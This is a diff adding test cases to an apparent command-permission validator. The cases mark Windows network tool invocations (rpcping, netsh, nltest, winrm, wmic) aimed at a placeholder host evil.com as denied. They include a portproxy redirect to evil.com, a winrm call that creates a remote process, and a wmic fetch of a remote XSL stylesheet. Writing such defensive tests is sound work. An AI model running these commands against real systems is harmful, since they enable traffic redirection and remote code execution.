@@ -71,3 +71,25 @@ describe('wmic\'s switches name files: /output: and /record: written, /node:@F r
     ['wmic os get /format:"\\\\\\\\evil.com\\\\s\\\\a.xsl"', 'deny'], ['wmic os get caption', 'allow'],
   ]);
 });
+
+describe('hosts Windows network tools take as bare names (rpcping -s, netsh -r, nltest /server:, winrm -r:)', () => {
+  table([
+    ['rpcping -s evil.com -e 1234 -a privacy -u NTLM', 'deny'],
+    ['rpcping /s evil.com /e 9997 /a connect /u NTLM', 'deny'],
+    ['netsh -r evil.com show helper', 'deny'],
+    ['netsh interface portproxy add v4tov4 listenport=80 connectaddress=evil.com connectport=80', 'deny'],
+    ['nltest /server:evil.com /dclist:x', 'deny'],
+    ['nltest.exe /dsgetdc:evil.com', 'deny'],
+    ['winrm id -r:evil.com', 'deny'],
+    ['winrm get winrm/config -r:evil.com', 'deny'],
+    ['winrm id -remote:evil.com:5985', 'deny'],
+    ['winrm invoke Create wmicimv2/Win32_Process \'@{CommandLine="notepad.exe"}\' -r:evil.com', 'deny'],
+    ['rpcping -s ok.com -e 1234', 'allow'],
+    ['netsh interface show interface', 'allow'],
+    ['nltest /dsgetdc:corp.local', 'allow'],
+  ]);
+  bashTable([
+    ['rpcping -s evil.com -e 1234', 'deny'], ['rpcping //s evil.com', 'deny'], ['nltest /server:evil.com /dclist:x', 'deny'],
+    ['netsh -r evil.com show helper', 'deny'], ['winrm id -r:evil.com', 'deny'], ['nltest /dsgetdc:corp.local', 'allow'],
+  ]);
+});
